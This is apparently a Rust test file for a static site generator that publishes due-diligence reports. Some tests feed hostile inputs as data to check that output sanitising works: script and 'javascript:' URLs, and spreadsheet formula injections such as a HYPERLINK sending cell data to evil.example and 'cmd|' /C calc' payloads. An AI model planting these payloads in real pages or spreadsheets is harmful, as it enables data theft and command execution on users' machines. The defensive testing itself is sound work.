//! `aktsom build` on fixture sites: the pages, their content and anchors, drafts,
//! determinism, untrusted input, and every user error with file:line and exit 1.

mod common;

use std::path::Path;

use common::*;

fn built_minimal(extra: &[&str]) -> tempfile::TempDir {
    let out = tempfile::tempdir().unwrap();
    build_ok(&fixture("minimal"), &out.path().join("public"), extra);
    out
}

#[test]
fn builds_every_page_of_the_site() {
    let out = built_minimal(&[]);
    let p = out.path().join("public");
    for f in [
        "index.html",
        "medlemmer/index.html",
        "medlemmer/alfa-kommune/index.html",
        "medlemmer/alfa-kommune/2023/index.html",
        "medlemmer/alfa-kommune/2024/index.html",
        "medlemmer/beta-tekstil/index.html",
        "medlemmer/beta-tekstil/2024/index.html",
        "ar/index.html",
        "ar/2023/index.html",
        "ar/2024/index.html",
        "tilgjengelighet/index.html",
        "404.html",
        "sitemap.xml",
        "robots.txt",
        "atom.xml",
        "style.css",
    ] {
        assert!(p.join(f).is_file(), "{f} is missing");
    }
    // The draft is left out of a normal build, everywhere.
    assert!(!p.join("medlemmer/beta-tekstil/2025").exists());
    assert!(!read(&p.join("medlemmer/beta-tekstil/index.html")).contains("/2025/"));
    assert!(!read(&p.join("sitemap.xml")).contains("2025"));
}

#[test]
fn summary_line_counts_pages() {
    let out = tempfile::tempdir().unwrap();
    let o = build_ok(&fixture("minimal"), &out.path().join("public"), &[]);
    let s = stdout(&o);
    assert!(
        s.starts_with("Built ") && s.contains(" pages (3 reports"),
        "{s}"
    );
}

#[test]
fn report_pages_have_stable_anchors_toc_and_tables() {
    let out = built_minimal(&[]);
    let html = read(
        &out.path()
            .join("public/medlemmer/alfa-kommune/2023/index.html"),
    );
    for id in [
        "id=\"1\"",
        "id=\"1-a\"",
        "id=\"1-a-1\"",
        "id=\"2-a-3\"",
        "id=\"forord\"",
    ] {
        assert!(html.contains(id), "{id} missing");
    }
    // The table of contents links to the anchors and uses the template's titles.
    assert!(html.contains("<nav class=\"toc\""));
    assert!(
        html.contains("href=\"#2-a-3\"><span class=\"qnum\">2.A.3</span> Prioriterte risikoer</a>")
    );
    // Tables get a caption, column headers with scope, and a focusable scroll region.
    assert!(html.contains("<caption id=\"tabell-1\">Prioriterte risikoer 2023</caption>"));
    assert!(html.contains("<th scope=\"col\">Prioritert risiko</th>"));
    assert!(html.contains("role=\"region\" tabindex=\"0\" aria-labelledby=\"tabell-1\""));
    // Previous/next year links and one h1.
    assert!(html.contains("href=\"/medlemmer/alfa-kommune/2024/\" rel=\"next\""));
    assert_eq!(html.matches("<h1").count(), 1);
    // External links are marked.
    assert!(html.contains("<a href=\"https://alfa.example.no/retningslinjer\" rel=\"external\">"));
}

#[test]
fn not_reported_is_never_zero() {
    let out = built_minimal(&[]);
    let p = out.path().join("public");
    let y2023 = read(&p.join("medlemmer/alfa-kommune/2023/index.html"));
    let y2024 = read(&p.join("medlemmer/alfa-kommune/2024/index.html"));
    // 2023 reports agreements_followed_up = 0: shown as 0.
    assert!(
        y2023.contains("<dt>Avtaler fulgt opp</dt><dd>0</dd>"),
        "{y2023}"
    );
    // 2024 leaves purchase_value_nok out: shown as not reported, not as 0.
    assert!(y2024.contains(
        "<dt>Samlet innkjøpsverdi</dt><dd><span class=\"not-reported\">Ikke rapportert</span></dd>"
    ));
    assert!(y2023.contains("<dd>800\u{a0}000\u{a0}000\u{a0}kr</dd>"));
    // The member page's tables across years keep them apart too.
    let member = read(&p.join("medlemmer/alfa-kommune/index.html"));
    let section = |id: &str| {
        member
            .split(&format!("id=\"tall-{id}\""))
            .nth(1)
            .unwrap()
            .split("</section>")
            .next()
            .unwrap()
            .to_string()
    };
    let purchase = section("purchase_value_nok");
    assert!(
        purchase.contains("800\u{a0}000\u{a0}000\u{a0}kr"),
        "{purchase}"
    );
    assert!(purchase.contains("Ikke rapportert"), "{purchase}");
    assert!(section("agreements_followed_up").contains("<td class=\"num\">0</td>"));
}

#[test]
fn drafts_are_included_and_marked_with_the_flag() {
    let out = built_minimal(&["--drafts"]);
    let html = read(
        &out.path()
            .join("public/medlemmer/beta-tekstil/2025/index.html"),
    );
    assert!(html.contains("Utkast – ikke publisert"));
    // Drafts never reach the feed.
    assert!(!read(&out.path().join("public/atom.xml")).contains("/2025/"));
}

#[test]
fn english_reports_are_marked_english() {
    let out = built_minimal(&[]);
    let html = read(
        &out.path()
            .join("public/medlemmer/beta-tekstil/2024/index.html"),
    );
    assert!(html.contains("<html lang=\"nb\">"));
    assert!(html.contains("<article class=\"report\" lang=\"en\">"));
    assert!(html.contains("<h2 id=\"nokkeltall\">Key figures</h2>"));
    assert!(html.contains("<dt>Employees</dt><dd>80</dd>"));
}

#[test]
fn two_builds_are_byte_identical() {
    let a = built_minimal(&["--drafts"]);
    let b = built_minimal(&["--drafts"]);
    let ta = tree(&a.path().join("public"));
    let tb = tree(&b.path().join("public"));
    assert_eq!(ta.len(), tb.len());
    for ((pa, ba), (pb, bb)) in ta.iter().zip(&tb) {
        assert_eq!(pa, pb);
        assert!(ba == bb, "{pa} differs between two builds");
    }
}

#[test]
fn untrusted_html_and_urls_do_not_reach_the_output() {
    let out = built_minimal(&[]);
    let html = read(
        &out.path()
            .join("public/medlemmer/alfa-kommune/2024/index.html"),
    );
    assert!(!html.contains("<script"), "a script survived");
    assert!(!html.contains("alert("), "script text survived");
    assert!(!html.contains("javascript:"), "a javascript: URL survived");
    assert!(!html.contains("onclick"), "an event handler survived");
    // What is allowed stays: an English passage marked with span lang.
    assert!(html.contains("<span lang=\"en\">Supplier Code of Conduct</span>"));
}

#[test]
fn warnings_name_the_file_and_line() {
    let out = tempfile::tempdir().unwrap();
    let o = build_ok(&fixture("minimal"), &out.path().join("public"), &[]);
    let err = stderr(&o);
    assert!(
        err.contains("content/members/alfa-kommune/2024.md:14:1"),
        "{err}"
    );
    assert!(err.contains("raw HTML <script>"), "{err}");
    assert!(
        err.contains("link to `javascript:alert(1)` removed"),
        "{err}"
    );
}

#[test]
fn base_url_with_a_sub_path_prefixes_every_link() {
    let out = built_minimal(&["--base-url", "https://example.org/rapporter/"]);
    let html = read(
        &out.path()
            .join("public/medlemmer/alfa-kommune/2023/index.html"),
    );
    assert!(html.contains("href=\"/rapporter/style.css\""));
    assert!(html.contains("href=\"/rapporter/medlemmer/alfa-kommune/\""));
    assert!(!html.contains("href=\"/medlemmer/"));
    let feed = read(&out.path().join("public/atom.xml"));
    assert!(
        feed.contains(
            "<link href=\"https://example.org/rapporter/medlemmer/alfa-kommune/2024/\"/>"
        ),
        "{feed}"
    );
}

#[test]
fn base_url_flag_is_checked_by_the_rule_of_site_toml() {
    // Refused addresses: the flag names itself, nothing is written; site.toml with the
    // same address is refused too (one rule for both).
    for bad in [
        "javascript:alert(1)//",
        "data:text/html,<script>alert(1)</script>",
        "/rapporter/",
        "rapporter.example.no/",
        "https://",
        "https://x.example/?a=1",
        "https://x.example/\"><script>",
    ] {
        let out = tempfile::tempdir().unwrap();
        let public = out.path().join("public");
        let o = aktsom(&[
            "build",
            "--root",
            fixture("minimal").to_str().unwrap(),
            "--out",
            public.to_str().unwrap(),
            "--base-url",
            bad,
        ]);
        assert!(!o.status.success(), "{bad} was accepted");
        let err = stderr(&o);
        assert!(err.contains("--base-url"), "{bad}: {err}");
        assert!(
            !public.exists(),
            "{bad}: the build wrote {}",
            public.display()
        );

        let site = copy_fixture("minimal");
        let toml = read(&site.path().join("site.toml"));
        let toml = toml.replace(
            "base_url = \"https://test.example.no/\"",
            &format!("base_url = {}", toml_string(bad)),
        );
        std::fs::write(site.path().join("site.toml"), toml).unwrap();
        let o = aktsom(&["check", "--root", site.path().to_str().unwrap()]);
        assert!(!o.status.success(), "site.toml accepted {bad}");
        assert!(
            stdout(&o).contains("error: base_url "),
            "{bad}: {}",
            stdout(&o)
        );
    }
    // Accepted: a missing trailing slash is added, as in site.toml.
    let out = built_minimal(&["--base-url", "https://example.org/rapporter"]);
    let sitemap = read(&out.path().join("public/sitemap.xml"));
    assert!(
        sitemap.contains("<loc>https://example.org/rapporter/medlemmer/</loc>"),
        "{sitemap}"
    );
    let data = read(&out.path().join("public/data/rapporter.json"));
    assert!(
        data.contains("\"url\":\"https://example.org/rapporter/medlemmer/"),
        "{data}"
    );
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_are_text_and_json_keeps_them_exact() {
    let site = copy_fixture("minimal");
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klikk\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];
    let members = site.path().join("content/members");
    let report = read(&members.join("beta-tekstil/2024.md"));
    for (i, name) in names.iter().enumerate() {
        let dir = members.join(format!("formel-{i}"));
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(
            dir.join("member.toml"),
            format!(
                "name = {}\nsector = \"private\"\nindustry = \"Tekstil\"\n",
                toml_string(name)
            ),
        )
        .unwrap();
        std::fs::write(dir.join("2024.md"), &report).unwrap();
    }
    // A text cell from site.toml, and a separator inside a name (a spreadsheet that
    // splits at `;` would see a cell start there).
    let toml = read(&site.path().join("site.toml"));
    let toml = toml.replace("en = \"NOK\"", "en = \"@NOK\"");
    std::fs::write(site.path().join("site.toml"), toml).unwrap();
    let beta = members.join("beta-tekstil/member.toml");
    let text = read(&beta).replace("Beta Tekstil AS", "Beta Tekstil; =1+1");
    std::fs::write(&beta, text).unwrap();

    let out = tempfile::tempdir().unwrap();
    let public = out.path().join("public");
    build_ok(site.path(), &public, &[]);
    let raw = read(&public.join("data/nokkeltall.csv"));
    // As a reader of the CSV sees them: a `'` in front (and after a tab or line break
    // that a spreadsheet could take for the start of a cell).
    let safe = [
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Klikk\")",
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'-2+3+cmd|' /C calc'!A0",
        "'\t'=1+1",
        "'\r'=1+1",
    ];
    for (i, safe) in safe.iter().enumerate() {
        // The cell as written: quoted.
        let cell = format!("\"{}\"", safe.replace('"', "\"\""));
        let line = format!("formel-{i},{cell},private,2024,employees,80,,reported\n");
        assert!(raw.contains(&line), "no line {line:?} in\n{raw}");
    }
    assert!(
        raw.contains("beta-tekstil,\"Beta Tekstil; '=1+1\",private,2024,purchase_value_nok,,\"'@NOK\",not_reported\n"),
        "{raw}"
    );
    // Numbers stay numbers; safe text is as it was.
    assert!(
        raw.contains("alfa-kommune,Alfa kommune,public,2023,employees,1200,,reported\n"),
        "{raw}"
    );

    // A CSV reader sees the text with the `'`, on the same number of lines.
    let mut rdr = csv::Reader::from_reader(raw.as_bytes());
    let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
    for (i, safe) in safe.iter().enumerate() {
        let row = rows
            .iter()
            .find(|r| r[0] == *format!("formel-{i}"))
            .unwrap();
        assert_eq!(&row[1], *safe);
    }

    // The JSON keeps every value exactly as written.
    let all: serde_json::Value =
        serde_json::from_str(&read(&public.join("data/rapporter.json"))).unwrap();
    let json_name = |slug: &str| {
        all["reports"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["member"] == slug)
            .map(|r| r["member_name"].as_str().unwrap().to_string())
            .unwrap()
    };
    for (i, name) in names.iter().enumerate() {
        assert_eq!(json_name(&format!("formel-{i}")), *name);
        let one: serde_json::Value = serde_json::from_str(&read(
            &public.join(format!("medlemmer/formel-{i}/2024/rapport.json")),
        ))
        .unwrap();
        assert_eq!(one["member_name"], *name);
    }
    assert_eq!(json_name("beta-tekstil"), "Beta Tekstil; =1+1");
    assert_eq!(all["figures"][1]["unit"], "@NOK");
}

fn toml_string(s: &str) -> String {
    toml::Value::String(s.into()).to_string()
}

#[test]
fn feed_sitemap_and_robots() {
    let out = built_minimal(&[]);
    let p = out.path().join("public");
    let feed = read(&p.join("atom.xml"));
    assert_eq!(feed.matches("<entry>").count(), 3);
    assert!(feed.contains("<updated>2025-04-01T00:00:00Z</updated>"));
    let sitemap = read(&p.join("sitemap.xml"));
    assert!(sitemap.contains("<loc>https://test.example.no/medlemmer/alfa-kommune/2023/</loc>"));
    assert!(read(&p.join("robots.txt")).contains("Sitemap: https://test.example.no/sitemap.xml"));
}

#[test]
fn a_site_overrides_one_theme_file() {
    let site = copy_fixture("minimal");
    std::fs::create_dir_all(site.path().join("templates")).unwrap();
    let page = "{% extends \"base.html\" %}{% block content %}<h1>{{ title }}</h1><p>Overstyrt mal</p>{{ body|safe }}{% endblock %}";
    std::fs::write(site.path().join("templates/page.html"), page).unwrap();
    let out = site.path().join("public");
    build_ok(site.path(), &out, &[]);
    assert!(read(&out.join("tilgjengelighet/index.html")).contains("Overstyrt mal"));
    // The rest of the theme still comes from the default.
    assert!(read(&out.join("index.html")).contains("Hopp til hovedinnholdet"));
}

/// Breaks the copied fixture with `edit`, builds it, and checks the failure: exit 1,
/// the expected `file:line:col` and text in the message, and the existing output
/// folder left exactly as it was.
fn assert_fails(edit: impl FnOnce(&Path), location: &str, text: &str) {
    let site = copy_fixture("minimal");
    let out = site.path().join("public");
    build_ok(site.path(), &out, &[]);
    let before = tree(&out);
    edit(site.path());
    let o = aktsom(&[
        "build",
        "--root",
        site.path().to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(1), "expected exit 1:\n{err}");
    assert!(err.contains(location), "expected {location} in:\n{err}");
    assert!(err.contains(text), "expected {text:?} in:\n{err}");
    assert!(!err.contains("panicked"), "{err}");
    assert!(
        tree(&out) == before,
        "the failed build changed the output folder"
    );
}

fn replace_in(site: &Path, file: &str, from: &str, to: &str) {
    let p = site.join(file);
    let s = read(&p);
    assert!(s.contains(from), "{from} not in {file}");
    std::fs::write(p, s.replacen(from, to, 1)).unwrap();
}

const ALFA_2024: &str = "content/members/alfa-kommune/2024.md";

#[test]
fn error_bad_toml() {
    assert_fails(
        |s| replace_in(s, ALFA_2024, "year = 2024", "year = 2024 2024"),
        &format!("{ALFA_2024}:2:"),
        "error:",
    );
}

#[test]
fn error_unknown_front_matter_key_suggests() {
    assert_fails(
        |s| replace_in(s, ALFA_2024, "published =", "publised ="),
        &format!("{ALFA_2024}:3:1"),
        "did you mean `published`?",
    );
}

#[test]
fn error_year_does_not_match_file_name() {
    assert_fails(
        |s| replace_in(s, ALFA_2024, "year = 2024", "year = 2022"),
        &format!("{ALFA_2024}:2:8"),
        "does not match the file name",
    );
}

#[test]
fn error_figure_not_a_number() {
    assert_fails(
        |s| replace_in(s, ALFA_2024, "employees = 1250", "employees = \"mange\""),
        &format!("{ALFA_2024}:6:13"),
        "is not a number",
    );
}

#[test]
fn error_negative_figure() {
    assert_fails(
        |s| replace_in(s, ALFA_2024, "employees = 1250", "employees = -3"),
        &format!("{ALFA_2024}:6:13"),
        "is negative",
    );
}

#[test]
fn error_unknown_figure_id_suggests() {
    assert_fails(
        |s| replace_in(s, ALFA_2024, "employees = 1250", "employes = 1250"),
        &format!("{ALFA_2024}:6:1"),
        "did you mean `employees`?",
    );
}

#[test]
fn error_member_folder_without_member_toml() {
    assert_fails(
        |s| std::fs::remove_file(s.join("content/members/beta-tekstil/member.toml")).unwrap(),
        "content/members/beta-tekstil",
        "has no member.toml",
    );
}

#[test]
fn error_invalid_utf8() {
    assert_fails(
        |s| {
            let p = s.join(ALFA_2024);
            let mut bytes = std::fs::read(&p).unwrap();
            let at = bytes
                .windows(8)
                .position(|w| w == b"Forordet")
                .expect("the text is there");
            bytes.splice(at..at, [0xff, 0xfe]);
            std::fs::write(p, bytes).unwrap();
        },
        &format!("{ALFA_2024}:12:1"),
        "not valid UTF-8",
    );
}

#[test]
fn error_unknown_question_number() {
    assert_fails(
        |s| {
            replace_in(
                s,
                ALFA_2024,
                "#### 2.A.3 Prioriterte",
                "#### 2.A.9 Prioriterte",
            )
        },
        &format!("{ALFA_2024}:31:1"),
        "2.A.9 is not a question of template version 2024",
    );
}

#[test]
fn error_broken_internal_link() {
    assert_fails(
        |s| {
            replace_in(
                s,
                "content/members/alfa-kommune/2023.md",
                "../2024/#2-a-3",
                "../2024/#2-a-7",
            )
        },
        "content/members/alfa-kommune/2023.md:22:76",
        "anchor #2-a-7 that does not exist",
    );
}

#[test]
fn error_missing_published_date() {
    assert_fails(
        |s| replace_in(s, ALFA_2024, "published = 2025-03-01\n", ""),
        &format!("{ALFA_2024}:2:"),
        "needs a `published` date",
    );
}

#[test]
fn all_errors_are_reported_at_once() {
    let site = copy_fixture("minimal");
    replace_in(site.path(), ALFA_2024, "year = 2024", "year = 2022");
    replace_in(
        site.path(),
        "content/members/alfa-kommune/2023.md",
        "employees = 1200",
        "employees = \"x\"",
    );
    let o = aktsom(&["build", "--root", site.path().to_str().unwrap()]);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        err.contains("does not match the file name") && err.contains("is not a number"),
        "{err}"
    );
    assert!(err.contains("failed with 2 errors"), "{err}");
}

#[test]
fn refuses_to_write_over_the_site() {
    let site = copy_fixture("minimal");
    let o = aktsom(&[
        "build",
        "--root",
        site.path().to_str().unwrap(),
        "--out",
        site.path().to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("contains the site itself"));
    assert!(site.path().join("site.toml").is_file());
}

#[test]
fn no_site_toml_is_a_clear_error() {
    let dir = tempfile::tempdir().unwrap();
    let o = aktsom(&["build", "--root", dir.path().to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("no site.toml"));
}

#[test]
fn the_bundled_sample_site_builds() {
    let out = tempfile::tempdir().unwrap();
    let o = build_ok(&repo_root(), &out.path().join("public"), &[]);
    let p = out.path().join("public");
    assert!(stdout(&o).contains("Built "));
    assert!(p.join("tilgjengelighet/index.html").is_file());
    assert!(p.join("om/index.html").is_file());
    let members = read(&p.join("medlemmer/index.html"));
    assert!(
        members.matches("<th scope=\"row\">").count() >= 6,
        "at least six members"
    );
}
